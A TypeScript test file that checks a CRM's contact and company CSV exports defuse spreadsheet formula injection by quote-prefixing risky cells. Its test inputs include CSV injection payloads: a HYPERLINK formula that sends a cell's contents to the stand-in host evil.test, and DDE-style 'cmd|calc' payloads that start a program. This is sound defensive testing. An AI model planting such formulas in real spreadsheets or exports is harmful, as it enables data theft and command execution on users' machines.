/**
 * CSV exports cannot carry spreadsheet formulas (OWASP "CSV Injection"): every cell that
 * begins with `=`, `+`, `-`, `@`, a tab or a carriage return comes out of
 * `contacts/export.csv` and `companies/export.csv` prefixed with `'`, so a spreadsheet
 * shows it as text and never evaluates it; other cells and numbers are unchanged.
 */
import { stringify } from 'csv-stringify/sync';
import t from 'tap';
import { CSV_OPTIONS } from '../src/http/crm-helpers.js';
import { login, makeTenant, setupApp } from './fixtures/app.js';

const { app, ctx } = await setupApp(t);
await makeTenant(ctx, 'csv');
const token = (await login(app, 'csv')).accessToken;
const headers = { 'x-tenant': 'csv', authorization: `Bearer ${token}` };

const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"click")', '+cmd|calc!A0', '-2+3+cmd|calc!A0', '@SUM(1+1)*cmd|calc!A0', '\t=1+1', '\r=1+1'];

/** Cells of a CSV text (RFC 4180 quoting; CRLF records), enough for these exports. */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

t.test('contacts/export.csv: a cell starting with = + - @ tab or CR is prefixed with a quote', async (t) => {
  for (const name of FORMULAS) {
    const res = await app.inject({ method: 'POST', url: '/api/v1/contacts', headers, payload: { fullName: `${name}`, jobTitle: 'plain title' } });
    t.equal(res.statusCode, 201, res.body);
  }
  const res = await app.inject({ url: '/api/v1/contacts/export.csv', headers });
  t.equal(res.statusCode, 200);
  const rows = cells(res.body);
  const col = rows[0]!.indexOf('fullName');
  const names = rows.slice(1).map((r) => r[col]!);
  for (const f of FORMULAS) {
    // The product trims names; what is stored is what the export must defuse.
    const stored = f.trim();
    t.ok(names.includes(`'${stored}`), `${JSON.stringify(stored)} comes out as ${JSON.stringify(`'${stored}`)}`);
    t.notOk(names.includes(stored), `${JSON.stringify(stored)} does not come out as it went in`);
  }
  const title = rows[0]!.indexOf('jobTitle');
  t.ok(
    rows.slice(1).every((r) => r[title] === 'plain title'),
    'other cells are unchanged',
  );
  t.ok(
    rows.slice(1).every((r) => /^\d+$/.test(r[0]!)),
    'ids are unchanged',
  );
});

t.test('companies/export.csv: formulas are prefixed with a quote too', async (t) => {
  const res = await app.inject({
    method: 'POST',
    url: '/api/v1/companies',
    headers,
    payload: { name: '=HYPERLINK("http://evil.test/","x")', industry: '@evil' },
  });
  t.equal(res.statusCode, 201, res.body);
  const csv = await app.inject({ url: '/api/v1/companies/export.csv', headers });
  const rows = cells(csv.body);
  const row = rows.find((r) => r.includes(`'=HYPERLINK("http://evil.test/","x")`));
  t.ok(row, 'the name is defused');
  t.ok(row?.includes(`'@evil`), 'the industry is defused');
});

t.test('the export options defuse a leading tab or carriage return too (the CRM trims names, so no stored value starts with one)', (t) => {
  const out = stringify([['\t=1+1', '\r=1+1', 'ok', -5]], CSV_OPTIONS);
  const [tab, cr, ok, n] = out.replace(/\r\n$/, '').split(',');
  t.equal(tab, "'\t=1+1", 'a leading tab is prefixed');
  t.match(cr, /^"?'\r=1\+1"?$/, 'a leading carriage return is prefixed');
  t.equal(ok, 'ok', 'plain text is unchanged');
  t.equal(n, '-5', 'a negative number is a number, unchanged');
  t.end();
});
